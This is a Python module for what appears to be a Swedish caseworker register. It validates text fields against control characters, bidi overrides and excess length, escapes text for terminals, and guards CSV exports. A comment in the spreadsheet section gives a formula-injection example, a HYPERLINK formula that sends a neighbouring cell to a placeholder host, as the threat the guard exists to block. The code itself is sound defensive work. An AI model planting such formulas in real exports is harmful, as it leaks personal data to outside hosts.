"""What a text field may hold, and how text from anywhere is made safe to show.

Text reaches the register from forms, from spreadsheets and from other installs' sync
files, and leaves it on screens, in terminals and in files. Two rules follow:

- The write door refuses control characters (a pasted escape sequence would later change a
  caseworker's terminal) and over-long values (a spreadsheet cell of a megabyte is a
  mistake, not a name). Newline and tab are allowed in free-text fields only. The same
  rules serve the forms, the table import and sync, so each column's rule lives here.
- Text already stored (from an older version, or a peer) is shown with the dangerous
  characters removed (screens) or made visible as escapes (terminal output).

Pure: no I/O, no SQL, no Textual.
"""

from __future__ import annotations

import functools
import json
import re
from collections.abc import Mapping

# A person's first or last name, a staff member's name.
NAME_MAX = 100
# Any other one-line value: a title, a place, a purpose in a few words.
LINE_MAX = 300
# Notes and other free text.
TEXT_MAX = 20_000
# Whole documents: a work process's text and its saved versions, an agreement's lists.
DOCUMENT_MAX = 200_000

# Characters that steer a terminal or reorder text instead of showing as themselves: C0
# and C1 controls, DEL, line and paragraph separators, and the bidirectional overrides and
# isolates (they make text read differently from what is stored).
_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
# The rest of the set, besides the C0 controls: DEL and C1, separators, bidi, surrogates.
_OTHERS = "\x7f-\x9f\u2028\u2029" + _BIDI + "\ud800-\udfff"
_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f" + _OTHERS + "]")  # tab and newline allowed
_UNSAFE_OR_BREAK = re.compile("[\x00-\x1f" + _OTHERS + "]")
# For a terminal, CRLF (as CSV has it) is a line break too; a lone CR would overwrite.
_TERMINAL_UNSAFE = re.compile("\r(?!\n)|[\x00-\x08\x0b\x0c\x0e-\x1f" + _OTHERS + "]")
_LINE_BREAKS = re.compile("\r\n|[\n\r\t\u2028\u2029]")

# Columns whose text may run over several lines (newline and tab allowed), with their
# longest length. Every other text column holds one line of at most LINE_MAX characters.
FREE_TEXT: dict[str, dict[str, int]] = {
    "way": {"exit_note": TEXT_MAX},
    "way_phase": {"note": TEXT_MAX},
    "mapping": {
        "work_experience": TEXT_MAX,
        "needs": TEXT_MAX,
        "obstacles": TEXT_MAX,
        "goals": TEXT_MAX,
        "health": TEXT_MAX,
        "disability": TEXT_MAX,
    },
    "measure": {"description": TEXT_MAX},
    "exit_follow_up": {"note": TEXT_MAX},
    "agreement": {"purpose": TEXT_MAX},
    "work_process": {
        "what_agreed": DOCUMENT_MAX,
        "how_done": DOCUMENT_MAX,
        "measures": DOCUMENT_MAX,
        "local_proposal": DOCUMENT_MAX,
        "source": TEXT_MAX,
    },
    "work_process_version": {"text": DOCUMENT_MAX},
    "agendaitem": {"notes": DOCUMENT_MAX, "ack_reason": TEXT_MAX, "ack_organisations": TEXT_MAX},
    "meetingdecision": {"text": TEXT_MAX},
    "meetingaction": {"what": TEXT_MAX},
    "referral": {"purpose": TEXT_MAX},
    "referral_event": {"note": TEXT_MAX, "reason": TEXT_MAX, "consent_basis": TEXT_MAX},
}
# One-line columns with a rule of their own: names, and lists of ids or codes (an
# agreement between many parties is a long line, but never a typed one).
ONE_LINE: dict[str, dict[str, int]] = {
    "individual": {"first_name": NAME_MAX, "last_name": NAME_MAX},
    "staff": {"name": NAME_MAX},
    "meetingattendee": {"name": NAME_MAX},
    "meetingaction": {"responsible_name": NAME_MAX},
    "agreement": {"parties": DOCUMENT_MAX},
    "work_process": {"parties": DOCUMENT_MAX, "target_groups": DOCUMENT_MAX},
    "consent": {"data_categories": DOCUMENT_MAX},
}
# Columns holding JSON written by the services: each text inside is checked as free text.
JSON_TEXT: dict[str, set[str]] = {"agreement": {"target_groups", "goals", "appendices"}}
# Derived or bookkeeping columns the door does not check: the sort key joins the names
# with a control character on purpose (domain.text.person_sort_key).
NOT_TEXT = {"id", "search_key", "sort_key", "merged_into"}

# Names of columns as a message names them, beyond vocabulary.FIELD_LABELS.
LABELS: dict[str, str] = {
    "name": "Namn",
    "title": "Rubrik",
    "place": "Plats",
    "notes": "Anteckningar",
    "note": "Anteckning",
    "text": "Texten",
    "what": "Åtgärden",
    "measure": "Insats",
    "reason": "Skälet",
    "description": "Beskrivning",
    "role": "Roll",
    "employer": "Arbetsgivare",
    "industry": "Bransch",
    "work_experience": "Arbetslivserfarenhet",
    "needs": "Behov",
    "obstacles": "Hinder",
    "goals": "Mål",
    "health": "Hälsa",
    "disability": "Funktionsnedsättning",
    "exit_note": "Anteckning",
    "what_agreed": "Vad som är överenskommet",
    "how_done": "Hur arbetet går till",
    "measures": "Insatser",
    "source": "Källa",
    "local_proposal": "Lokalt förslag",
    "ack_reason": "Skälet",
    "ack_organisations": "Organisationerna",
    "consent_basis": "Grunden",
    "responsible_name": "Ansvarig",
    "organisation_name": "Organisation",
    "responsible_role": "Ansvarig roll",
    "cluster": "Kluster",
    "unit": "Enhet",
    "org_nr": "Organisationsnummer",
}


class FieldRule:
    """How one column is checked: one line or free text, and its longest length."""

    __slots__ = ("json", "max_length", "multiline")

    def __init__(self, *, multiline: bool, max_length: int, json: bool = False) -> None:
        self.multiline = multiline
        self.max_length = max_length
        self.json = json


@functools.lru_cache(maxsize=4096)
def rule_for(table: str, column: str) -> FieldRule | None:
    """The rule of a stored text column, or None for columns the door leaves alone.
    Cached (one rule object per column, shared, never changed): an import checks the same
    few columns for each of 10,000s of rows."""
    if column in NOT_TEXT:
        return None
    if column in JSON_TEXT.get(table, ()):
        return FieldRule(multiline=False, max_length=DOCUMENT_MAX, json=True)
    if column in FREE_TEXT.get(table, {}):
        return FieldRule(multiline=True, max_length=FREE_TEXT[table][column])
    return FieldRule(multiline=False, max_length=ONE_LINE.get(table, {}).get(column, LINE_MAX))


def text_problem(value: str, *, multiline: bool = False, max_length: int = LINE_MAX) -> str | None:
    """Why `value` cannot be stored, as the end of a Swedish sentence, or None if it can.

    >>> text_problem("Öztürk") is None
    True
    """
    if len(value) > max_length:
        return f"får vara högst {max_length:,} tecken (nu {len(value):,}).".replace(",", " ")
    if value.isprintable():  # every character the rules refuse is unprintable (a test says)
        return None
    pattern = _UNSAFE if multiline else _UNSAFE_OR_BREAK
    found = pattern.search(value)
    if found is None:
        return None
    if found.group() in "\n\r\t\u2028\u2029" and not multiline:
        return "får bara vara en rad (utan radbrytningar och tabbar)."
    return (
        "innehåller ett osynligt styrtecken (till exempel från kopierad text) som inte kan "
        "sparas. Skriv in texten på nytt."
    )


def label_of(column: str) -> str:
    from ungtui.domain.vocabulary import FIELD_LABELS

    return FIELD_LABELS.get(column) or LABELS.get(column) or "Texten"


def field_problem(table: str, column: str, value: object) -> str | None:
    """A whole Swedish sentence naming the field when `value` may not be stored in
    `table.column`, else None. Values that are not text are not this rule's business."""
    if not isinstance(value, str):
        return None
    rule = rule_for(table, column)
    if rule is None:
        return None
    problem = text_problem(value, multiline=rule.multiline, max_length=rule.max_length)
    if problem is None and rule.json:
        problem = _json_problem(value)
    return f"{label_of(column)} {problem}" if problem else None


def _json_problem(value: str) -> str | None:
    try:
        data = json.loads(value)
    except ValueError:
        return "är inte giltig JSON."
    stack = [data]
    while stack:
        item = stack.pop()
        if isinstance(item, str):
            if problem := text_problem(item, multiline=True, max_length=TEXT_MAX):
                return problem
        elif isinstance(item, dict):
            stack.extend(item.keys())
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
    return None


def record_problems(table: str, values: Mapping[str, object]) -> dict[str, str]:
    """{column: Swedish sentence} for every value of a record that may not be stored."""
    problems = {}
    for column, value in values.items():
        if problem := field_problem(table, column, value):
            problems[column] = problem
    return problems


# --- showing stored text ---------------------------------------------------------------


def for_display(text: object, *, multiline: bool = False) -> str:
    """Text as a screen may show it: steering characters removed; on one line unless
    `multiline` (then line breaks and tabs stay)."""
    value = "" if text is None else str(text)
    if multiline:
        return _UNSAFE.sub("", value.replace("\r\n", "\n").replace("\r", "\n"))
    return _UNSAFE.sub("", _LINE_BREAKS.sub(" ", value))


def steering_spans(text: str) -> list[tuple[int, int]]:
    """Where `text` has characters for_display(multiline=True) would remove: for callers
    that must keep other positions (styled text)."""
    return [match.span() for match in _UNSAFE.finditer(text)]


def escape_for_terminal(text: str) -> str:
    """Text as a command may print it: every steering character written out as `\\uXXXX`,
    line breaks (CRLF too, as CSV has them) and tabs kept. Valid JSON stays valid JSON,
    since such characters can only stand inside its strings, where `\\uXXXX` means the
    same character."""
    return _TERMINAL_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", text)


# --- spreadsheets ------------------------------------------------------------------------

# A cell starting with one of these is a formula to Excel and LibreOffice: a name like
# =HYPERLINK("http://x/?q="&C2) would send the neighbouring cell away when the list is
# opened. Text from the register is written so that it stays text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


_PHONE = re.compile(r"[0-9 +\-()/]+")


def phone_problem(phone: str) -> str | None:
    """A phone number as people write it: 070-123 45 67, +46 70 123 45 67, 040/12 34 56.
    Letters are a mistake (a name or an e-mail address in the wrong field)."""
    if not phone or (_PHONE.fullmatch(phone) and any(c.isdigit() for c in phone)):
        return None
    return (
        f"”{phone}” ser inte ut som ett telefonnummer. "
        "Skriv det med siffror, t.ex. 070-123 45 67."
    )


def looks_like_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def spreadsheet_text(value: object) -> object:
    """A CSV cell as text: a leading apostrophe keeps a formula-like value a plain string."""
    return "'" + value if looks_like_formula(value) else value  # type: ignore[operator]
